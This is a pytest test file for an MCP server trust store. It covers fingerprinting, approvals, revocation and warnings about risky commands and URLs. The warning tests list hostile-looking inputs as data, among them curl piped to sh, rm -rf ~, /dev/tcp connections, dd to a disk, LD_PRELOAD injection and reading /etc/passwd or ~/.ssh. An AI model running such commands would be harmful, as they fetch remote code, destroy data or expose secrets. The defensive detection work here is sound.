"""Which servers of a project may run: fingerprints, the book of approvals, and what is warned of."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgspec
import pytest

import trunkline
from tests.support import run_async
from trunkline.errors import ConfigError
from trunkline.host.config.model import Scope, ServerEntry, ServerSettings, Source
from trunkline.host.integrity.fingerprints import Fingerprint, fingerprint
from trunkline.host.integrity.trust import FingerprintChange, TrustStatus, TrustStore, warnings_for

NOON = 1_800_000_000.0


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project's folder, which we are in, with a program and a script of its own."""
    folder = tmp_path / "project"
    (folder / "bin").mkdir(parents=True)
    _program(folder / "bin" / "tool", "#!/bin/sh\necho one\n")
    (folder / "server.py").write_text("print('one')\n", encoding="utf-8")
    monkeypatch.chdir(folder)
    return folder


@pytest.fixture
def book(tmp_path: Path) -> TrustStore:
    """A book outside the project."""
    return TrustStore(tmp_path / "state" / "trust.json", clock=lambda: NOON)


def _program(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    path.chmod(0o755)
    return path


def _entry(project: Path, *, scope: Scope = "project", file: str = ".mcp.json", **given: Any) -> ServerEntry:
    if "url" not in given:
        given = {"command": (str(project / "bin" / "tool"), "--fast"), "cwd": str(project), **given}
    return ServerEntry(name="tool", source=Source(scope, str(project / file), 3), **given)


def _remote(project: Path, **given: Any) -> ServerEntry:
    return _entry(project, url="https://mcp.example.com/mcp?key=one", headers={"X-Team": "a"}, **given)


def _changed_parts(before: ServerEntry, now: ServerEntry) -> set[str]:
    first, second = fingerprint(before), fingerprint(now)
    assert (first.digest == second.digest) is (first.marks == second.marks)
    return {name for name in {**first.marks, **second.marks} if first.marks.get(name) != second.marks.get(name)}


# --- fingerprints ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("part", "change"),
    [
        pytest.param("args", {"command": ("./bin/tool", "--slow")}, id="an argument"),
        pytest.param("args", {"command": ("./bin/tool",)}, id="an argument less"),
        pytest.param("command", {"command": ("./bin/other", "--fast")}, id="a program that is not there"),
        pytest.param("env", {"env": {"TOKEN": "x", "MORE": "y"}}, id="a variable more"),
        pytest.param("cwd", {"cwd": None}, id="another folder"),
        pytest.param("sandbox", {"settings": ServerSettings(sandbox={"network": True})}, id="another sandbox"),
    ],
)
def test_each_part_of_a_command_is_in_its_fingerprint(
    part: str, change: dict[str, Any], project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(project.parent)
    entry = _entry(project, command=("./bin/tool", "--fast"), env={"TOKEN": "x"})
    assert part in _changed_parts(entry, msgspec.structs.replace(entry, **change))


@pytest.mark.parametrize(
    ("part", "change"),
    [
        pytest.param("url", {"url": "https://mcp.example.net/mcp?key=one"}, id="a host"),
        pytest.param("url", {"url": "https://mcp.example.com/mcp?key=two"}, id="a value in the query"),
        pytest.param("url", {"url": "http://mcp.example.com/mcp?key=one"}, id="a scheme"),
        pytest.param("headers", {"headers": {"X-Team": "a", "X-More": "b"}}, id="a header more"),
        pytest.param("type", {"type": "sse"}, id="a transport"),
        pytest.param("auth", {"auth": {"clientId": "other"}}, id="a way to log in"),
    ],
)
def test_each_part_of_a_url_is_in_its_fingerprint(part: str, change: dict[str, Any], project: Path) -> None:
    entry = _remote(project)
    assert _changed_parts(entry, msgspec.structs.replace(entry, **change)) == {part}


@pytest.mark.parametrize(
    ("before", "now"),
    [
        pytest.param({"env": {"A": "1", "B": "2"}}, {"env": {"B": "2", "A": "1"}}, id="the order of variables"),
        pytest.param({"env": {"TOKEN": "old"}}, {"env": {"TOKEN": "new"}}, id="a token's value"),
        pytest.param({"settings": ServerSettings()}, {"settings": ServerSettings(timeout=3)}, id="a timeout"),
    ],
)
def test_what_does_not_change_what_runs_is_not_in_the_fingerprint(
    before: dict[str, Any], now: dict[str, Any], project: Path
) -> None:
    assert _changed_parts(_entry(project, **before), _entry(project, **now)) == set()


def test_the_value_of_a_header_and_the_case_of_its_name_are_not_in_the_fingerprint(project: Path) -> None:
    other = msgspec.structs.replace(_remote(project), headers={"x-team": "b"})
    assert _changed_parts(_remote(project), other) == set()


@pytest.mark.parametrize("name", ["NODE_OPTIONS", "LD_PRELOAD", "PYTHONPATH", "PATH", "https_proxy", "UV_INDEX_URL"])
def test_the_value_of_a_variable_that_decides_what_runs_is_in_the_fingerprint(name: str, project: Path) -> None:
    before, now = _entry(project, env={name: "/one"}), _entry(project, env={name: "/two"})
    assert _changed_parts(before, now) == {"env"}
    assert fingerprint(now).parts["env"] == name


def test_a_program_is_found_by_the_path_of_the_server(project: Path) -> None:
    found = fingerprint(_entry(project, command=("tool",), env={"PATH": str(project / "bin")}))
    assert found.parts["command"] == str(project / "bin" / "tool")


def test_a_program_whose_content_was_swapped_has_another_fingerprint(project: Path) -> None:
    before = fingerprint(_entry(project))
    _program(project / "bin" / "tool", "#!/bin/sh\necho two\n")
    now = fingerprint(_entry(project))
    assert before.digest != now.digest
    assert before.parts["binary"] != now.parts["binary"]


def test_a_link_that_leads_to_another_program_of_the_same_content_has_another_fingerprint(project: Path) -> None:
    _program(project / "bin" / "twin", (project / "bin" / "tool").read_text(encoding="utf-8"))
    link = project / "link"
    link.symlink_to("bin/tool")
    before = fingerprint(_entry(project, command=(str(link),)))
    link.unlink()
    link.symlink_to("bin/twin")
    now = fingerprint(_entry(project, command=(str(link),)))
    assert before.parts["binary"] == now.parts["binary"]
    assert before.digest != now.digest


@pytest.mark.parametrize(
    "words",
    [
        pytest.param((sys.executable, "server.py"), id="python"),
        pytest.param((sys.executable, "-W", "ignore", "server.py"), id="an option with a value first"),
        pytest.param(("/usr/bin/env", "A=1", "python3", "server.py"), id="env"),
        pytest.param(("uv", "run", "--with", "mcp", "server.py"), id="uv run"),
        pytest.param(("uv", "--directory", "..", "run", "project/server.py"), id="uv in another folder"),
        pytest.param(("node", "--require", "./server.py", "main.js"), id="a file loaded first"),
        pytest.param(("node", "--import=./server.py", "main.js"), id="a file loaded first, with ="),
        pytest.param(("bash", "-e", "server.py"), id="a shell"),
        pytest.param(("deno", "run", "-A", "server.py"), id="deno run"),
        pytest.param(("trunkline", "run", "server.py:server"), id="trunkline run"),
        pytest.param((sys.executable, "-m", "trunkline", "run", "--compat", "server.py"), id="python -m trunkline run"),
    ],
)
def test_the_script_that_an_interpreter_runs_is_in_the_fingerprint(words: tuple[str, ...], project: Path) -> None:
    before = fingerprint(_entry(project, command=words))
    (project / "server.py").write_text("print('two')\n", encoding="utf-8")
    assert fingerprint(_entry(project, command=words)).marks["scripts"] != before.marks["scripts"]


@pytest.mark.parametrize(
    "words",
    [
        pytest.param(("./bin/tool", "server.py"), id="a file given to a program"),
        pytest.param((sys.executable, "-m", "tool", "server.py"), id="a file given to a module"),
        pytest.param((sys.executable, "tool", "server.py"), id="a file given to something not there"),
        pytest.param(("bash", "-c", "tool", "server.py"), id="a file given to code"),
    ],
)
def test_a_file_that_is_only_given_to_a_program_is_not_read(words: tuple[str, ...], project: Path) -> None:
    assert "scripts" not in fingerprint(_entry(project, command=words)).parts


def test_a_link_to_an_interpreter_runs_a_script_too(project: Path) -> None:
    (project / "start").symlink_to(os.path.realpath(sys.executable))
    assert "server.py" in fingerprint(_entry(project, command=("./start", "server.py"))).parts["scripts"]


def test_a_huge_program_is_identified_by_size_time_and_beginning(project: Path) -> None:
    huge = _program(project / "bin" / "huge", "#!/bin/sh\n")
    os.truncate(huge, 65 * 1024 * 1024)
    os.utime(huge, (1, 1))
    before = fingerprint(_entry(project, command=(str(huge),)))
    os.utime(huge, (2, 2))
    assert fingerprint(_entry(project, command=(str(huge),))).marks["binary"] != before.marks["binary"]


def test_a_pipe_in_the_place_of_a_script_is_not_waited_for(project: Path) -> None:
    (project / "server.py").unlink()
    os.mkfifo(project / "server.py")
    assert "scripts" not in fingerprint(_entry(project, command=(sys.executable, "server.py"))).parts


@pytest.mark.skipif(os.geteuid() == 0, reason="root can read everything")
def test_a_program_that_cannot_be_read_is_reported(project: Path) -> None:
    (project / "bin" / "tool").chmod(0o111)
    assert "unreadable" in fingerprint(_entry(project)).parts["binary"]


def test_a_secret_in_an_argument_is_in_the_digest_and_not_in_the_parts(project: Path) -> None:
    def made(secret: str) -> Fingerprint:
        words = ("./bin/tool", f"--key={secret}")
        return fingerprint(_entry(project, command=words, secrets=frozenset({secret})))

    assert made("it's-one").digest != made("it's-two").digest
    assert made("it's-one").parts == made("it's-two").parts
    assert made("it's-one").parts["args"] == "'--key=***'"


def test_a_url_is_shown_without_password_and_values(project: Path) -> None:
    entry = _entry(project, url="https://ann:pass@example.com/v1?key=abc&team=x#here")
    assert fingerprint(entry).parts["url"] == "https://ann:***@example.com/v1?key=***&team=***"


@pytest.mark.parametrize("url", ["http://[", "https://[::1/mcp"])
def test_a_url_that_is_none_has_a_fingerprint_too(url: str, project: Path) -> None:
    assert fingerprint(_entry(project, url=url)).parts["url"] == "(no URL)"


def test_a_server_in_this_process_has_a_fingerprint_too(project: Path) -> None:
    entry = _entry(project, command=None, target=object(), settings=ServerSettings(sandbox=object()))
    assert fingerprint(entry).parts == {"type": "in this process", "sandbox": '"object"'}


def test_a_path_that_is_no_unicode_has_a_fingerprint_that_can_be_kept(project: Path, book: TrustStore) -> None:
    entry = _entry(project, command=("./bin/tool", "\udcff"))
    book.approve(entry, fingerprint(entry))
    assert book.status(entry, fingerprint(entry)).state == "approved"


# --- the book --------------------------------------------------------------------------------------------------------


def _standing(book: TrustStore, entry: ServerEntry) -> TrustStatus:
    return book.status(entry, fingerprint(entry))


@pytest.mark.parametrize("scope", ["given", "user", "managed"])
def test_the_users_own_word_needs_no_approval(scope: Scope, project: Path, book: TrustStore) -> None:
    status = _standing(book, _entry(project, scope=scope))
    assert (status.state, status.may_run) == ("trusted", True)


def test_a_server_of_a_project_is_new_until_it_is_approved(project: Path, book: TrustStore) -> None:
    before = _standing(book, _entry(project))
    book.approve(_entry(project), fingerprint(_entry(project)))
    after = _standing(book, _entry(project))
    assert (before.state, before.may_run, after.state, after.may_run) == ("new", False, "approved", True)
    assert "trunkline trust approve tool" in before.reason


def test_arguments_that_change_after_the_approval_are_asked_again(project: Path, book: TrustStore) -> None:
    book.approve(_entry(project), fingerprint(_entry(project)))
    poisoned = _entry(project, command=(str(project / "bin" / "tool"), "--steal"))
    status = _standing(book, poisoned)
    assert (status.state, status.may_run) == ("changed", False)
    assert status.changes == (FingerprintChange("args", "--fast", "--steal"),)
    assert str(status.changes[0]) == "args: --fast -> --steal"


def test_a_part_that_comes_or_goes_is_a_change(project: Path, book: TrustStore) -> None:
    book.approve(_entry(project), fingerprint(_entry(project)))
    status = _standing(book, _entry(project, env={"LD_PRELOAD": "./evil.so"}))
    assert [str(change) for change in status.changes] == ["env: (nothing) -> LD_PRELOAD"]


def test_a_secret_that_changes_is_named_without_being_shown(project: Path, book: TrustStore) -> None:
    first = _entry(project, command=("./bin/tool", "abcd1"), secrets=frozenset({"abcd1"}))
    second = _entry(project, command=("./bin/tool", "abcd2"), secrets=frozenset({"abcd2"}))
    book.approve(first, fingerprint(first))
    assert [str(change) for change in _standing(book, second).changes] == ["args: a value that is not shown"]


def test_approving_the_change_forgets_what_was_approved_before(project: Path, book: TrustStore) -> None:
    second = _entry(project, command=(str(project / "bin" / "tool"), "--slow"))
    book.approve(_entry(project), fingerprint(_entry(project)))
    book.approve(second, fingerprint(second))
    assert _standing(book, second).state == "approved"
    assert _standing(book, _entry(project)).state == "changed"


def test_what_was_seen_is_approved_and_not_what_came_meanwhile(project: Path, book: TrustStore) -> None:
    seen = fingerprint(_entry(project))
    _program(project / "bin" / "tool", "#!/bin/sh\necho evil\n")
    book.approve(_entry(project), seen)
    assert _standing(book, _entry(project)).state == "changed"


def test_an_approval_holds_in_its_own_folder_and_for_its_own_name_only(
    project: Path, book: TrustStore, tmp_path: Path
) -> None:
    entry = _entry(project)
    book.approve(entry, fingerprint(entry))
    elsewhere = msgspec.structs.replace(entry, source=Source("project", str(tmp_path / "other" / ".mcp.json")))
    other = msgspec.structs.replace(entry, name="other")
    assert [_standing(book, each).state for each in (entry, elsewhere, other)] == ["approved", "new", "new"]


def test_a_project_reached_by_a_link_is_the_same_project(project: Path, book: TrustStore, tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to(project)
    linked = msgspec.structs.replace(_entry(project), source=Source("project", str(tmp_path / "link" / ".mcp.json")))
    book.approve(linked, fingerprint(linked))
    assert _standing(book, _entry(project)).state == "approved"
    assert book.approvals()[0].folder == str(project)


def test_a_file_in_an_editors_folder_belongs_to_the_project_around_it(project: Path, book: TrustStore) -> None:
    entry = _entry(project, file=".vscode/mcp.json")
    (project / ".vscode").mkdir()
    book.approve(entry, fingerprint(entry))
    assert book.approvals()[0].folder == str(project)


def test_a_revoked_server_does_not_run(project: Path, book: TrustStore) -> None:
    book.approve(_entry(project), fingerprint(_entry(project)))
    assert book.revoke("tool")
    status = _standing(book, _entry(project))
    assert (status.state, status.may_run) == ("revoked", False)


def test_a_revoked_server_may_be_approved_again(project: Path, book: TrustStore) -> None:
    book.approve(_entry(project), fingerprint(_entry(project)))
    book.revoke("tool", project)
    book.approve(_entry(project), fingerprint(_entry(project)))
    assert _standing(book, _entry(project)).state == "approved"


@pytest.mark.parametrize(("name", "folder"), [("other", None), ("tool", "/elsewhere")], ids=["name", "folder"])
def test_revoking_what_is_not_approved_does_nothing(
    name: str, folder: str | None, project: Path, book: TrustStore
) -> None:
    book.approve(_entry(project), fingerprint(_entry(project)))
    assert not book.revoke(name, folder)
    assert _standing(book, _entry(project)).state == "approved"


def test_approvals_are_listed_with_what_was_seen(project: Path, book: TrustStore) -> None:
    entry = _entry(project, command=("./bin/tool", "it's-one"), secrets=frozenset({"it's-one"}))
    book.approve(entry, fingerprint(entry))
    (approval,) = book.approvals()
    assert (approval.name, approval.file, approval.at) == ("tool", str(project / ".mcp.json"), NOON)
    assert approval.shown == "./bin/tool '***'"
    assert approval.digest == fingerprint(entry).digest


def test_the_address_of_a_remote_server_is_listed_without_its_query(project: Path, book: TrustStore) -> None:
    book.approve(_remote(project), fingerprint(_remote(project)))
    assert book.approvals()[0].shown == "https://mcp.example.com/mcp?key=***"


def test_what_the_user_wrote_cannot_be_approved(project: Path, book: TrustStore) -> None:
    with pytest.raises(ConfigError, match="only servers of a project's file"):
        book.approve(_entry(project, scope="user"), fingerprint(_entry(project)))


@pytest.mark.parametrize("scope", ["project", "user"])
def test_the_check_before_a_start_agrees_with_the_status(scope: Scope, project: Path, book: TrustStore) -> None:
    entry = _entry(project, scope=scope)
    status = _standing(book, entry)
    assert run_async(book.check(entry)) == (status.may_run, None if status.may_run else status.reason)


# --- the file --------------------------------------------------------------------------------------------------------


def _path(tmp_path: Path) -> Path:
    return tmp_path / "state" / "trust.json"


def test_the_store_is_for_its_owner_alone(project: Path, book: TrustStore, tmp_path: Path) -> None:
    book.approve(_entry(project), fingerprint(_entry(project)))
    assert _path(tmp_path).stat().st_mode & 0o777 == 0o600
    assert _path(tmp_path).parent.stat().st_mode & 0o777 == 0o700
    assert repr(book) == f"TrustStore({str(_path(tmp_path))!r})"


def _cut(path: Path) -> None:
    path.write_bytes(path.read_bytes()[:-20])


def _empty(path: Path) -> None:
    path.write_bytes(b"")


def _newer(path: Path) -> None:
    path.write_text(json.dumps({**json.loads(path.read_text(encoding="utf-8")), "version": 2}), encoding="utf-8")


def _open_to_others(path: Path) -> None:
    path.chmod(0o666)


def _folder(path: Path) -> None:
    path.unlink()
    path.mkdir()


DAMAGES = [_cut, _empty, _newer, _open_to_others, _folder]


@pytest.mark.parametrize("damage", DAMAGES)
def test_a_store_that_cannot_be_relied_on_approves_nothing_and_is_not_overwritten(
    damage: Callable[[Path], None], project: Path, book: TrustStore, tmp_path: Path
) -> None:
    book.approve(_entry(project), fingerprint(_entry(project)))
    damage(_path(tmp_path))
    status = _standing(book, _entry(project))
    assert (status.state, status.may_run) == ("new", False)
    assert str(_path(tmp_path)) in status.reason
    before = _path(tmp_path).stat()
    with pytest.raises(ConfigError, match=r"trust\.json"):
        book.approve(_entry(project), fingerprint(_entry(project)))
    assert _path(tmp_path).stat() == before


def test_listing_a_malformed_store_raises(book: TrustStore, tmp_path: Path) -> None:
    _path(tmp_path).parent.mkdir()
    _path(tmp_path).write_text("{", encoding="utf-8")
    with pytest.raises(ConfigError, match="delete it and approve again"):
        book.approvals()


def test_a_store_that_cannot_be_written_raises(project: Path, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("", encoding="utf-8")
    with pytest.raises(ConfigError, match="approvals cannot be stored"):
        TrustStore(tmp_path / "file" / "trust.json").approve(_entry(project), fingerprint(_entry(project)))


@pytest.mark.parametrize("linked", [False, True], ids=["plain", "by a link"])
def test_a_project_cannot_bring_its_own_trust_store(linked: bool, project: Path, tmp_path: Path) -> None:
    entry = _entry(project)
    TrustStore(tmp_path / "trust.json").approve(
        msgspec.structs.replace(entry, source=Source("project", str(project / ".mcp.json"))), fingerprint(entry)
    )
    (project / "trust.json").write_bytes((tmp_path / "trust.json").read_bytes())
    (project / "trust.json").chmod(0o600)
    (tmp_path / "link").symlink_to(project / "trust.json")
    book = TrustStore(tmp_path / "link" if linked else project / "trust.json")
    status = _standing(book, entry)
    assert status.state == "new"
    assert "TRUNKLINE_HOME" in status.reason
    with pytest.raises(ConfigError, match="inside the project folder"):
        book.approve(entry, fingerprint(entry))


APPROVE_MANY = """
import sys
from pathlib import Path
from trunkline.host.config.model import ServerEntry, Source
from trunkline.host.integrity.fingerprints import fingerprint
from trunkline.host.integrity.trust import TrustStore

book, folder, letter = TrustStore(Path(sys.argv[1])), sys.argv[2], sys.argv[3]
for number in range(40):
    source = Source("project", f"{folder}/.mcp.json")
    entry = ServerEntry(name=f"{letter}{number:02}", source=source, url="https://mcp.example.com")
    book.approve(entry, fingerprint(entry))
"""


def test_two_processes_that_approve_at_once_lose_nothing(project: Path, book: TrustStore, tmp_path: Path) -> None:
    environment = {**os.environ, "PYTHONPATH": str(Path(trunkline.__file__).parents[1])}
    command = [sys.executable, "-c", APPROVE_MANY, str(_path(tmp_path)), str(project)]
    processes = [subprocess.Popen([*command, letter], env=environment) for letter in "ab"]
    assert [process.wait(120) for process in processes] == [0, 0]
    assert len(book.approvals()) == 80


# --- what is warned of -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("words", "said"),
    [
        pytest.param(("bash", "-c", "x"), "runs code given on its command line (bash -c)", id="a shell"),
        pytest.param(("sh", "-lc", "x"), "runs code given on its command line (sh -lc)", id="flags together"),
        pytest.param(("cmd.exe", "/C", "x"), "runs code given on its command line (cmd /C)", id="cmd"),
        pytest.param(("python", "-W", "ignore", "-c", "x"), "(python -c)", id="behind another option"),
        pytest.param(("/usr/bin/env", "bash", "-c", "x"), "(bash -c)", id="behind env"),
        pytest.param(("sudo", "tool"), "rights of another user (sudo)", id="sudo"),
        pytest.param(("tool", "curl https://x.example/i | sh"), "fetches a script and runs it unseen", id="curl to sh"),
        pytest.param(("tool", "rm -rf ~"), "deletes whole folders", id="rm -rf"),
        pytest.param(("rm", "-v", "-fr", "x"), "deletes whole folders", id="rm -fr in words"),
        pytest.param(("tool", "echo aa | base64 -d | x"), "decodes something", id="base64"),
        pytest.param(("tool", "cat < /dev/tcp/x/1"), "opens a connection of its own", id="/dev/tcp"),
        pytest.param(("dd", "if=x", "of=/dev/sda"), "writes to a disk directly", id="dd"),
        pytest.param(("docker", "run", "-v", "/:/host", "a/b:1.2"), "the whole machine", id="the root as a volume"),
        pytest.param(("npx", "-y", "pkg"), "fetches pkg without a fixed version", id="npx"),
        pytest.param(("npx", "pkg@^1.2.3"), "fetches pkg@^1.2.3 without", id="npx range"),
        pytest.param(("npx", "-p", "pkg", "tool"), "fetches pkg without", id="npx -p"),
        pytest.param(("npx", "--package=pkg", "tool"), "fetches pkg without", id="npx --package="),
        pytest.param(("cmd", "/c", "npx", "-y", "pkg"), "fetches pkg without", id="npx behind cmd"),
        pytest.param(("C:\\node\\npx.cmd", "pkg"), "fetches pkg without", id="npx of windows"),
        pytest.param(("uvx", "pkg"), "fetches pkg without", id="uvx"),
        pytest.param(("uvx", "--python", "3.12", "pkg"), "fetches pkg without", id="uvx behind an option"),
        pytest.param(("uvx", "--from", "git+https://x.example/p", "tool"), "fetches git+https", id="uvx --from"),
        pytest.param(
            ("docker", "run", "-i", "--rm", "-e", "TOKEN", "ghcr.io/a/b"), "fetches ghcr.io/a/b without", id="docker"
        ),
        pytest.param(("tool", "/etc/passwd"), "outside the project: /etc/passwd", id="an absolute path"),
        pytest.param(("tool", "--root=~/.ssh"), "outside the project: ~/.ssh", id="a path of the home folder"),
        pytest.param(("tool", "../other"), "outside the project: ../other", id="a folder up"),
        pytest.param(("tool", "in/../../other"), "outside the project: in/../../other", id="up on the way"),
        pytest.param(("tool", "a\u202eb"), "invisible characters: U+202E", id="a change of direction"),
        pytest.param(("tool", "a\x1b[2K\u200b"), "invisible characters: U+001B, U+200B", id="an escape"),
    ],
)
def test_a_dangerous_command_is_warned_of(words: tuple[str, ...], said: str, project: Path) -> None:
    warnings = warnings_for(_entry(project, command=words))
    assert [each for each in warnings if said in each], warnings


@pytest.mark.parametrize(
    "words",
    [
        pytest.param(("./bin/tool", "--fast"), id="a program"),
        pytest.param(("python", "server.py", "-c", "config.toml"), id="an option of the script"),
        pytest.param(("python", "-m", "server", "-c", "config.toml"), id="an option of the module"),
        pytest.param(("npx", "-y", "@team/pkg@1.2.3"), id="npx, fixed"),
        pytest.param(("npx", "./local"), id="npx, here"),
        pytest.param(("uvx", "pkg==1.2"), id="uvx, fixed"),
        pytest.param(("docker", "run", "a/b:1.2"), id="docker, fixed"),
        pytest.param(("docker", "run", f"a/b@sha256:{'0' * 64}"), id="docker, by digest"),
        pytest.param(("uvx",), id="nothing to fetch"),
        pytest.param(("tool", "in/folder/../x", "--keep=./y"), id="paths of the project"),
    ],
)
def test_an_ordinary_command_is_not_warned_of(words: tuple[str, ...], project: Path) -> None:
    assert warnings_for(_entry(project, command=words)) == []


def test_an_absolute_path_inside_the_project_is_not_warned_of(project: Path) -> None:
    assert warnings_for(_entry(project, command=("tool", str(project / "data")))) == []


def test_a_folder_outside_the_project_is_warned_of(project: Path) -> None:
    assert warnings_for(_entry(project, command=("tool",), cwd="/")) == ["names a path outside the project: /"]


def test_paths_mean_nothing_where_there_is_no_project(project: Path) -> None:
    assert warnings_for(_entry(project, scope="user", command=("tool", "/etc/passwd"))) == []


def test_a_variable_that_decides_what_runs_is_warned_of_with_its_value(project: Path) -> None:
    warnings = warnings_for(_entry(project, env={"NODE_OPTIONS": "--require ./x.js", "TOKEN": "abc"}))
    assert warnings == ["sets NODE_OPTIONS=--require ./x.js, which decides what code runs or where it comes from"]


def test_a_secret_is_never_in_a_warning(project: Path) -> None:
    entry = _entry(project, command=("npx", "abcdef"), env={"PATH": "abcdef"}, secrets=frozenset({"abcdef"}))
    assert "abcdef" not in "".join(warnings_for(entry))


@pytest.mark.parametrize(
    ("url", "said"),
    [
        pytest.param("http://mcp.example.com/mcp", "without encryption", id="http"),
        pytest.param("https://good.example@evil.example/mcp", "the host is evil.example", id="a user's name"),
        pytest.param("https://ex\u0430mple.com/mcp", "not plain ASCII", id="a letter of another script"),
        pytest.param("https://xn--exmple-4nf.com/mcp", "not plain ASCII", id="the same, encoded"),
        pytest.param("http://[", "an invalid URL", id="no URL"),
    ],
)
def test_a_dangerous_url_is_warned_of(url: str, said: str, project: Path) -> None:
    warnings = warnings_for(_entry(project, url=url))
    assert [each for each in warnings if said in each], warnings


@pytest.mark.parametrize("url", ["https://mcp.example.com/mcp", "http://127.0.0.1:8000/mcp", "http://localhost/mcp"])
def test_an_ordinary_url_is_not_warned_of(url: str, project: Path) -> None:
    assert warnings_for(_entry(project, url=url)) == []


def test_a_server_in_this_process_is_not_warned_of(project: Path) -> None:
    assert warnings_for(_entry(project, command=None, cwd=None, target=object())) == []
